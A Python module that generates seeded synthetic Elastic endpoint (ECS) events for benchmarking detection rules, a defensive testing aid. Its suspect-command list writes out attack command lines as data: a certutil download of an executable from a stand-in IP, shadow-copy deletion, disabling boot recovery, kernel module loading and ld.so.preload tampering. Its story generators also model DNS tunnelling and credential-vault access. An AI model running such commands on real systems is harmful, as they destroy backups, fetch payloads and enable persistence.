"""A seeded maker of realistic ECS events: what the benchmarks run on.

The mix follows an Elastic Defend estate (process 30 %, file 20 %, network 20 %, library 10 %, registry
10 %, authentication 10 %), Windows and Linux half and half, names after Zipf, command lines and paths
mostly new. About one event in a hundred is such that some public rule should notice it, and about one
in two thousand begins a story: a few events of one host, seconds apart and with others between them,
that complete a sequence of some public rule.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

SHAPES = ("plain", "polymorphic", "powershell")
_START = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
_WORDS = [
    "alpha",
    "build",
    "cache",
    "data",
    "deploy",
    "export",
    "fetch",
    "graph",
    "index",
    "job",
    "key",
    "log",
    "main",
    "node",
    "out",
    "plan",
    "query",
    "run",
    "sync",
    "task",
    "user",
    "view",
    "web",
    "zone",
]
_WINDOWS = [
    "svchost.exe",
    "code.exe",
    "explorer.exe",
    "conhost.exe",
    "git.exe",
    "notepad.exe",
    "agent.exe",
    "builder.exe",
    "cmd.exe",
    "taskhostw.exe",
    "RuntimeBroker.exe",
    "SearchIndexer.exe",
    "indexer.exe",
    "make.exe",
    "cargo.exe",
    "node-gyp.exe",
]
_LINUX = [
    "bash",
    "sh",
    "python3",
    "sed",
    "grep",
    "cat",
    "ls",
    "node",
    "systemd",
    "sshd",
    "cron",
    "java",
    "nginx",
    "containerd",
    "runc",
    "tar",
    "curl",
    "git",
    "make",
    "gcc",
]
_PARENTS = {
    "svchost.exe": "services.exe",
    "taskhostw.exe": "svchost.exe",
    "RuntimeBroker.exe": "svchost.exe",
    "SearchIndexer.exe": "services.exe",
    "MsMpEng.exe": "services.exe",
    "conhost.exe": "cmd.exe",
    "explorer.exe": "userinit.exe",
}
_DLLS = [
    "ntdll",
    "kernel32",
    "user32",
    "advapi32",
    "shell32",
    "ole32",
    "crypt32",
    "ws2_32",
    "combase",
    "rpcrt4",
    "gdi32",
    "sechost",
]
_SUSPECT = (
    (
        "windows",
        "certutil.exe",
        ["-urlcache", "-split", "-f", "http://203.0.113.7/a.exe"],
        "cmd.exe",
    ),
    ("windows", "wmic.exe", ["shadowcopy", "delete"], "cmd.exe"),
    ("windows", "vssadmin.exe", ["delete", "shadows", "/all"], "cmd.exe"),
    ("windows", "bcdedit.exe", ["/set", "{default}", "recoveryenabled", "no"], "cmd.exe"),
    ("linux", "curl", ["https://10.0.0.5:10250/pods"], "bash"),
    ("linux", "chattr", ["-i", "/etc/ld.so.preload"], "bash"),
    ("linux", "insmod", ["/tmp/x.ko"], "sh"),
)


STORIES = 1 / 2000
"""How often a story begins."""


class Corpus:
    """An endless, repeatable stream of events.

    Parameters
    ----------
    seed
        The same seed gives the same events.
    shape
        ``plain``: nested objects. ``polymorphic``: dotted keys, scalars and arrays mixed.
        ``powershell``: as plain, and one event in 25 carries a long script.
    """

    def __init__(self, seed: int = 1, shape: str = "plain", hosts: int = 60) -> None:
        if shape not in SHAPES:
            raise ValueError(f"no corpus is called {shape!r}; there are {', '.join(SHAPES)}")
        self._random = random.Random(seed)
        self._shape = shape
        self._time = _START
        self._hosts = [self._host(number) for number in range(hosts)]
        self._makers = (
            self._process,
            self._file,
            self._network,
            self._library,
            self._registry,
            self._login,
        )
        self._shares = list(itertools.accumulate((30, 20, 20, 10, 10, 10)))
        self._planned: list[tuple[int, dict[str, Any]]] = []
        self._made = 0

    def lines(self, count: int) -> Iterator[bytes]:
        """So many events, each a line of JSON with its end."""
        for _ in range(count):
            yield orjson.dumps(self._shaped(self.event())) + b"\n"

    def event(self) -> dict[str, Any]:
        """The next event."""
        self._made += 1
        if self._planned and self._planned[0][0] <= self._made:
            event = self._planned.pop(0)[1]
        else:
            host = self._random.choice(self._hosts)
            event = self._random.choices(self._makers, cum_weights=self._shares)[0](host)
            if self._random.random() < STORIES:
                self._plan(self._story(host))
        self._time += timedelta(microseconds=self._random.randrange(1, 60_000))
        moment = self._time - timedelta(
            milliseconds=self._random.randrange(3_000) if self._random.random() < 0.05 else 0
        )
        event["@timestamp"] = f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond:06d}7Z"
        event["event"]["ingested"] = f"{self._time:%Y-%m-%dT%H:%M:%S}Z"
        return event

    def _shaped(self, event: dict[str, Any]) -> dict[str, Any]:
        if self._shape == "powershell" and self._random.random() < 0.04:
            event["powershell"] = {"file": {"script_block_text": self._script()}}
        if self._shape != "polymorphic":
            return event
        return (
            _dotted(event, self._random)
            if self._random.random() < 0.5
            else _mixed(event, self._random)
        )

    def _plan(self, story: list[dict[str, Any]]) -> None:
        """Let the events of a story come one after the other, a few others between them."""
        at = self._made
        for event in story:
            at += self._random.randrange(1, 12)
            self._planned.append((at, event))
        self._planned.sort(key=lambda planned: planned[0])

    def _story(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """Events that complete a sequence."""
        if host["os"]["type"] == "linux":
            return self._random.choice([self._vanishing, self._traced])(host)
        return self._random.choice([self._vault, self._remoting, self._tunnel])(host)

    def _vanishing(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """A program runs from memory and deletes itself."""
        start, gone = self._process(host), self._file(host)
        path = f"/dev/shm/.{self._id(6)}"
        start["process"] |= {"name": path.rpartition("/")[2], "executable": path}
        gone["event"] |= {"type": ["deletion"], "action": "deletion"}
        gone["file"] |= {"path": path, "name": start["process"]["name"]}
        gone["process"] = {**gone["process"], "entity_id": start["process"]["entity_id"]}
        return [start, gone]

    def _traced(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """A login server's process ends, and somebody traces."""
        end, trace = self._process(host), self._process(host)
        end["event"] |= {"type": ["end"], "action": "end"}
        end["process"] |= self._running(host, "sshd")
        trace["process"] |= self._running(host, "strace")
        return [end, trace]

    def _vault(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """A developer's tool loads a library of credentials."""
        start, load = self._process(host), self._library(host)
        start["process"] |= self._running(host, "MSBuild.exe")
        load["process"] = {**load["process"], "entity_id": start["process"]["entity_id"]}
        load["dll"] |= {"name": "vaultcli.dll", "path": "C:\\Windows\\System32\\vaultcli.dll"}
        return [start, load]

    def _remoting(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """A remote shell comes in and starts something."""
        reach, start = self._network(host), self._process(host)
        reach["network"] |= {"direction": "ingress"}
        reach["source"] |= {"ip": "10.1.77.9", "address": "10.1.77.9"}
        reach["destination"] |= {"port": 5985}
        start["process"]["parent"] |= self._running(host, "wsmprovhost.exe")
        return [reach, start]

    def _tunnel(self, host: dict[str, Any]) -> list[dict[str, Any]]:
        """Ten questions of one kind to name servers."""
        asked = [self._process(host) for _ in range(10)]
        for event in asked:
            event["process"] |= self._running(host, "nslookup.exe")
            args = [event["process"]["executable"], "-q=TXT", f"{self._id(12)}.example.com"]
            event["process"] |= {"args": args, "command_line": " ".join(args)}
        return asked

    def _zipf(self, names: list[str]) -> str:
        return names[min(int(self._random.paretovariate(1.1)) - 1, len(names) - 1)]

    def _id(self, length: int = 16) -> str:
        return f"{self._random.getrandbits(length * 4):0{length}x}"

    def _word(self) -> str:
        return self._random.choice(_WORDS)

    def _script(self) -> str:
        size = self._random.randrange(4_000, 16_000)
        line = f"$ErrorActionPreference = 'Stop'; function Get-{self._word()}($x) {{ return $x | Where-Object {{ $_.Name -like '*{self._id(6)}*' }} }}\n"
        return (line * (size // len(line) + 1))[:size]

    def _host(self, number: int) -> dict[str, Any]:
        windows = number % 2 == 0
        system = "windows" if windows else "linux"
        return {
            "id": self._id(32),
            "name": f"{'win' if windows else 'lnx'}-{number:03d}",
            "hostname": f"{'win' if windows else 'lnx'}-{number:03d}",
            "architecture": "x86_64",
            "ip": [f"10.1.{number}.7", "127.0.0.1", "fe80::1"],
            "mac": ["00-50-56-" + "-".join(f"{self._random.randrange(256):02x}" for _ in range(3))],
            "os": {
                "type": system,
                "family": system,
                "name": "Windows" if windows else "Debian",
                "full": "Windows 11 Enterprise 23H2" if windows else "Debian GNU/Linux 12",
                "version": "10.0.22631" if windows else "12",
                "kernel": "23H2" if windows else "6.1.0-18-amd64",
                "platform": system,
            },
        }

    def _base(self, host: dict[str, Any], category: str, kind: str, action: str) -> dict[str, Any]:
        user = f"user{self._random.randrange(90)}"
        windows = host["os"]["type"] == "windows"
        return {
            "agent": {"id": host["id"][:16], "type": "endpoint", "version": "9.1.2"},
            "ecs": {"version": "8.10.0"},
            "data_stream": {
                "type": "logs",
                "dataset": f"endpoint.events.{'security' if category == 'authentication' else category}",
                "namespace": "default",
            },
            "event": {
                "category": [category],
                "type": [kind],
                "action": action,
                "kind": "event",
                "module": "endpoint",
                "dataset": f"endpoint.events.{category}",
                "id": self._id(20),
                "sequence": self._random.randrange(10**7),
                "outcome": "success" if category == "authentication" else "unknown",
                "created": f"{self._time:%Y-%m-%dT%H:%M:%S}.123456Z",
            },
            "host": host,
            "user": {
                "name": user,
                "id": f"S-1-5-21-{self._random.randrange(90)}"
                if windows
                else str(1000 + self._random.randrange(90)),
                "domain": "CORP" if windows else host["name"],
            },
            "message": f"Endpoint {category} event",
        }

    def _running(self, host: dict[str, Any], name: str | None = None) -> dict[str, Any]:
        windows = host["os"]["type"] == "windows"
        name = name or self._zipf(_WINDOWS if windows else _LINUX)
        folder = "C:\\Windows\\System32\\" if windows else "/usr/bin/"
        return {
            "name": name,
            "executable": folder + name,
            "pid": self._random.randrange(300, 70_000),
            "entity_id": self._id(32),
            "Ext": {
                "ancestry": [self._id(32) for _ in range(3)],
                **({"token": {"integrity_level_name": "medium"}} if windows else {}),
            },
            **(
                {
                    "code_signature": {
                        "exists": True,
                        "trusted": True,
                        "status": "trusted",
                        "subject_name": "Microsoft Windows",
                    }
                }
                if windows
                else {}
            ),
        }

    def _process(self, host: dict[str, Any]) -> dict[str, Any]:
        windows = host["os"]["type"] == "windows"
        event = self._base(host, "process", "start", "start" if windows else "exec")
        process = self._running(host)
        args = [
            self._word(),
            f"--{self._word()}={self._id(8)}",
            f"{'C:/Users' if windows else '/srv'}/{self._word()}/{self._id(6)}.txt",
        ]
        parent = self._running(
            host, _PARENTS.get(process["name"], "explorer.exe") if windows else None
        )
        if self._random.random() < 0.02:
            system, name, args, parent_name = self._random.choice(_SUSPECT)
            if system == host["os"]["type"]:
                process, parent = self._running(host, name), self._running(host, parent_name)
        process["args"] = [process["executable"], *args]
        process["args_count"] = len(process["args"])
        process["command_line"] = " ".join(process["args"])
        process["working_directory"] = "C:\\Users\\" if windows else "/srv/"
        process["hash"] = {"sha256": self._id(64), "md5": self._id(32)}
        if windows:
            process["pe"] = {"original_file_name": process["name"]}
        parent["args"] = [parent["executable"], self._word()]
        parent["command_line"] = " ".join(parent["args"])
        event["process"] = {**process, "parent": parent}
        return event

    def _file(self, host: dict[str, Any]) -> dict[str, Any]:
        windows = host["os"]["type"] == "windows"
        kind, action = self._random.choice(
            [
                ("creation", "creation"),
                ("change", "modification"),
                ("deletion", "deletion"),
                ("change", "rename"),
            ]
        )
        event = self._base(host, "file", kind, action)
        extension = self._random.choice(["txt", "log", "tmp", "dll", "json", "so", "conf", "dat"])
        name = f"{self._word()}-{self._id(8)}.{extension}"
        path = (
            f"C:\\Users\\user{self._random.randrange(90)}\\AppData\\Local\\{self._word()}\\{name}"
            if windows
            else f"/var/lib/{self._word()}/{self._id(4)}/{name}"
        )
        event["process"] = self._running(host)
        event["file"] = {
            "path": path,
            "name": name,
            "extension": extension,
            "size": self._random.randrange(10**6),
            "Ext": {"header_bytes": self._id(32)},
        }
        return event

    def _network(self, host: dict[str, Any]) -> dict[str, Any]:
        event = self._base(host, "network", "start", "connection_attempted")
        event["process"] = self._running(host)
        event["source"] = {
            "ip": host["ip"][0],
            "address": host["ip"][0],
            "port": self._random.randrange(32_768, 61_000),
        }
        address = f"{self._random.choice([10, 52, 140, 172])}.{self._random.randrange(256)}.{self._random.randrange(256)}.{self._random.randrange(256)}"
        event["destination"] = {
            "ip": address,
            "address": address,
            "port": self._random.choice([443, 443, 443, 80, 53, 22, 8443]),
            "bytes": self._random.randrange(10**5),
        }
        event["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
        if self._random.random() < 0.3:
            event["dns"] = {
                "question": {"name": f"{self._id(6)}.{self._word()}.example.com", "type": "A"},
                "resolved_ip": [address],
            }
        return event

    def _library(self, host: dict[str, Any]) -> dict[str, Any]:
        event = self._base(host, "library", "start", "load")
        event["process"] = self._running(host)
        name = f"{self._zipf(_DLLS)}.dll"
        event["dll"] = {
            "name": name,
            "path": f"C:\\Windows\\System32\\{name}",
            "hash": {"sha256": self._id(64)},
            "code_signature": {
                "exists": True,
                "trusted": True,
                "status": "trusted",
                "subject_name": "Microsoft Windows",
            },
        }
        return event

    def _registry(self, host: dict[str, Any]) -> dict[str, Any]:
        event = self._base(host, "registry", "change", "modification")
        event["process"] = self._running(host)
        key = f"SOFTWARE\\Microsoft\\{self._word()}\\{self._id(8)}"
        event["registry"] = {
            "hive": "HKLM",
            "key": key,
            "path": f"HKLM\\{key}\\{self._word()}",
            "value": self._word(),
            "data": {"type": "REG_SZ", "strings": [self._id(12)]},
        }
        return event

    def _login(self, host: dict[str, Any]) -> dict[str, Any]:
        event = self._base(host, "authentication", "start", "log_on")
        event["process"] = self._running(host)
        event["source"] = {"ip": f"10.1.{self._random.randrange(60)}.9"}
        event["winlog"] = {
            "logon": {
                "type": self._random.choice(["Network", "Interactive", "Service"]),
                "id": "0x" + self._id(6),
            },
            "event_id": "4624",
        }
        return event


def _dotted(event: dict[str, Any], chance: random.Random) -> dict[str, Any]:
    """The event with some of its objects written as dotted keys."""
    flat: dict[str, Any] = {}
    for name, value in event.items():
        if isinstance(value, dict) and chance.random() < 0.6:
            for inner, held in value.items():
                flat[f"{name}.{inner}"] = held
        else:
            flat[name] = value
    return flat


def _mixed(event: dict[str, Any], chance: random.Random) -> dict[str, Any]:
    """The event with some arrays of one as scalars and some scalars as arrays."""
    own = dict(event["event"])
    own["category"], own["type"] = own["category"][0], own["type"][0]
    if chance.random() < 0.5:
        own["action"] = [own["action"]]
    process = dict(event.get("process", {}))
    if process and chance.random() < 0.5:
        process["pid"] = str(process["pid"])
    return {**event, "event": own, **({"process": process} if process else {})}
